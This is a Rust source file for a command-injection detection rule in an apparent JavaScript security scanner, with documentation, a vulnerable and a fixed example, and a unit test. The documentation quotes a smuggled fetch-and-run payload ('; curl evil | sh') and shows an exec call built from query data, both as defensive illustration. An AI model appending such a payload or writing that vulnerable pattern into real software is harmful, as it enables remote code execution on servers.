//! `MW002` `shell-command-from-request`: Shell command built from request data.

use crate::{Rule, RuleContext, RuleDocs, RuleMeta};
use eggsec_js::flow::SinkKind;
use eggsec_report::{Confidence, Severity, Strategy};

pub struct ShellCommandFromRequest;

static META: RuleMeta = RuleMeta {
    code: "MW002",
    name: "shell-command-from-request",
    strategy: Strategy::Middleware,
    severity: Severity::Critical,
    // 0 of 1 medium+ findings true on the real-app corpus (a DB value reached through a
    // required module the resolver does not follow): confidence lowered until it is measured
    // higher
    confidence: Confidence::Medium,
    control: "Shell commands never include request data",
    docs: RuleDocs {
        what: r#"Finds request data reaching `child_process.exec`/`execSync` (and `spawn`/`execFile` with `shell: true`), shelljs and execa command strings."#,
        why: r#"A shell command built from request data runs whatever the attacker appends (`; curl evil | sh`): full remote code execution as the app's user."#,
        bad: r#"const { exec } = require('child_process');
exec(`convert ${ctx.query.file} out.png`);"#,
        good: r#"const { execFile } = require('child_process');
execFile('convert', [ path.basename(ctx.query.file), 'out.png' ]);"#,
        fix: r#"Use `execFile`/`spawn` with an argument array and no shell, validate the value against an allow-list, and never pass request data to `exec`."#,
    },
};

impl Rule for ShellCommandFromRequest {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &mut RuleContext<'_>) {
        super::sql_built_from_request::report_flows(
            cx,
            SinkKind::Shell,
            "Shell command built from request data",
            META.docs.fix,
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::run_rule;

    #[test]
    fn hit_and_safe_look_alike() {
        let (hit, safe) =
            super::super::sql_built_from_request::tests::sample_apps("shell-command-from-request");
        assert!(
            !run_rule(&ShellCommandFromRequest, &hit).is_empty(),
            "no finding on the planted flow"
        );
        assert!(
            run_rule(&ShellCommandFromRequest, &safe).is_empty(),
            "finding on the safe look-alike"
        );
    }
}
